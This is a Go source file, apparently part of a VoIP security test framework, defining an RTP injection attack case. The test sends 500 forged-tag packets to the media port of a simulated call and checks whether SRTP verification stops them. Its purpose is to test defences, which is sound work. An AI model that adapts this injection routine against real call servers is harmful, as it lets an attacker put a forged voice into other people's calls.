package attack

import (
	"bytes"
	"context"
	"errors"
	"io"
	"net/netip"
	"time"

	"imsafe/client/ue"
	"imsafe/secure"
)

// rtpInject: a relay that passes packets on before it knows whose they are speaks with the attacker's voice.
func rtpInject() Attack {
	return Attack{
		ID: "cs.rtp.inject", Number: "CS-02", Title: "forged packets to the port of a call",
		Text:     "the called party would hear the attacker in the caller's place",
		Services: []Service{Integrity}, Stride: Tampering, Threats: []Threat{Corruption}, Module: ServicesUser,
		Source: "EnableSecurity ES2025-01 (rtpengine)", Access: []Access{TLS}, Media: true,
		Bounds: Bounds{Packets: 550, Bytes: 120_000, Conns: 2, Time: 4 * time.Second},
		Variants: []Variant{{Position: OffPath, Run: inject,
			Controls: []secure.ControlID{secure.CSConfidentialityNoLearn, secure.CSIntegritySRTPVerify}}},
	}
}

// inject sends packets with forged tags to the port that alice's media go to.
func inject(ctx context.Context, f *Field, o *Outcome) error {
	out, in, err := f.Alice.Talk(ctx, f.Bob)
	if err != nil {
		return err
	}
	defer func() { out.Hangup(); in.Hangup() }()
	conn, err := f.attacker.Dial(ctx, "udp", netip.Addr{}, out.Media().Remote)
	if err != nil {
		return err
	}
	defer conn.Close()
	const packets = 500
	tag := make([]byte, 16)
	before, began, open := in.Media().PacketsIn, f.Clock.Now(), 0
	for n := range packets {
		if _, err := io.ReadFull(f.Random, tag); err != nil {
			return err
		}
		if _, err := conn.Write(append(rtpPacket(0xbad, uint16(1000+n), bytes.Repeat([]byte{0x55}, 160)), tag...)); err == nil {
			open++
		}
		if err := pause(ctx, 4*time.Millisecond); err != nil {
			return err
		}
	}
	if err := settle(ctx); err != nil {
		return err
	}
	spoken := uint64((f.Clock.Now()-began)/(20*time.Millisecond)) + 5 // by alice herself
	got := in.Media().PacketsIn - before
	extra := got - min(got, spoken)
	o.Arrived("%d of %d packets found the port of the call open", open, packets)
	reached := extra > packets/4
	o.Wire(false, "%d packets with forged tags", packets)
	o.Peer(reached, "bob was passed %d packets, of which alice can have said %d", got, min(got, spoken))
	if reached {
		o.Users = 1
		return nil
	}
	return ends(ctx, out, in)
}

// ends ends a call whose media an attack may have taken away.
func ends(ctx context.Context, out, in *ue.Call) error {
	err := attackOver(Part(ctx, out, in))
	if errors.Is(err, ue.ErrMedia) {
		return nil
	}
	return err
}
